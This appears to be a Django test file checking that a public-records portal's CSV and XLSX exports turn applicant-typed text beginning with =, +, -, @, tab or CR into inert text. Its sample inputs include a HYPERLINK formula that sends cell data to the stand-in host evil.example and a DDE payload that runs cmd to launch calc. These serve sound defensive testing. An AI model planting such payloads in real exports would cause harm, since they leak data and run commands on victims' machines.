"""Exports never carry a live formula: text an applicant typed on the public portal that
starts like a formula (= + - @, or a tab/CR before one) is exported as text — a string
cell in XLSX, a cell with a leading apostrophe in CSV."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from gongkai.safecells import csv_text, xlsx_row
from gongkai.web.portal import services as portal_services
from gongkai.web.portal.models import OnlineApplication
from tests.web.conftest import PASSWORD
from tests.web.portal.conftest import post_application

pytestmark = pytest.mark.django_db

REQUEST = "，请公开2024年临川市老旧小区改造项目的招标文件"  # long enough for the portal
PAYLOADS = tuple(
    start + REQUEST
    for start in (
        '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",  # the portal strips the tab; what remains still starts with =
        "\r=1+1",
    )
)
DESCRIPTION, NAME = 6, 5  # columns of the cases export (cases.views.lists.EXPORT_HEADERS)


def _export_of_portal_application(role_users: dict[str, Any], tree: Any, text: str) -> Client:
    """An applicant submits ``text`` as name and request on the portal; the agency confirms."""
    assert post_application(Client(), tree.city, applicant_name=text, description=text)
    application = OnlineApplication.objects.get()
    handler = role_users["handler"]
    portal_services.confirm_receipt(application, handler, received_on=application.submitted_on)
    client = Client()
    assert client.login(username=handler.username, password=PASSWORD)
    return client


@pytest.mark.parametrize("text", PAYLOADS)
def test_xlsx_export_writes_formula_text_as_a_string_cell(
    role_users: dict[str, Any], tree: Any, text: str
) -> None:
    client = _export_of_portal_application(role_users, tree, text)
    response = client.get(reverse("cases:export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    description, name = sheet.cell(2, DESCRIPTION + 1), sheet.cell(2, NAME + 1)
    assert description.data_type == "s" and description.value == text.strip()
    assert name.data_type == "s" and str(name.value)[0] == text.strip()[0]  # masked: 首字 + **


@pytest.mark.parametrize("text", PAYLOADS)
def test_csv_export_neutralises_formula_text(
    role_users: dict[str, Any], tree: Any, text: str
) -> None:
    client = _export_of_portal_application(role_users, tree, text)
    response = client.get(reverse("cases:export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][DESCRIPTION] == "'" + text.strip()
    assert rows[1][NAME].startswith("'" + text.strip()[0])


def test_csv_keeps_numbers_and_plain_text() -> None:
    assert csv_text(-2) == -2  # a number is no formula
    assert csv_text("临川市-2025-001") == "临川市-2025-001"
    assert csv_text(None) == ""
    assert csv_text("\t=1") == "'\t=1"


def test_xlsx_row_works_for_ordinary_workbooks_too() -> None:
    """The same helper serves non-streaming writers (e.g. the CLI's audit workbook)."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(xlsx_row(sheet, ["=1+1", 3, None]))
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(out).active.iter_rows())  # type: ignore[union-attr]
    assert [(c.value, c.data_type) for c in cells[:2]] == [("=1+1", "s"), (3, "n")]
